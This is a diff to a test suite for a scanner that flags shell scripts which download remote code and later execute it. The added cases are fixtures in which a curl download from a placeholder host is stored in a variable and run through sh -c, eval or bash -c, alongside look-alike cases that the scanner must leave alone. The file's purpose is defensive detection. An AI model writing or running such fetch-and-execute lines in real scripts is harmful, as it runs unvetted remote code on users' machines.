@@ -113,6 +113,32 @@ describe("pipe-to-shell: a kept download handed to another variable", () => {
     ).toEqual([1]);
   });
 
+  it("follows a shell's variable named anywhere in the value handed on, when that value is run", () => {
+    const keep = "x=$(curl -fsSL https://x.example/y.sh)\n";
+    for (const lines of [
+      'y="set -e; $x"\nsh -c "$y"',
+      'y="cd /tmp && ${x}"\neval "$y"',
+      'export SCRIPT="set -e\n$x"\nbash -c "$SCRIPT"',
+      'y=pre\\;$x\neval "$y"',
+    ]) {
+      expect(flagged("p/s/run.sh", `${keep}${lines}\n`), lines).toEqual([1]);
+    }
+  });
+
+  it("leaves alone a value that names the variable only as data or not at all", () => {
+    const keep = "x=$(curl -fsSL https://x.example/y.sh)\n";
+    for (const lines of [
+      'msg="got $x"\necho "$msg"',
+      "y='set -e; $x'\nsh -c \"$y\"",
+      'y="a\\$x"\nsh -c "$y"',
+      'n="${#x}"\nsh -c "$n"',
+      'y="${x:+set}"\nsh -c "$y"',
+      'y="$xy"\nsh -c "$y"',
+    ]) {
+      expect(flagged("p/s/run.sh", `${keep}${lines}\n`), lines).toEqual([]);
+    }
+  });
+
   it("leaves alone a copy only printed or written, and one made before the download was kept", () => {
     expect(
       flagged("p/s/run.sh", 'x=$(curl -fsSL https://x.example/y.sh); y="$x"; echo "$y" > i.sh\n'),
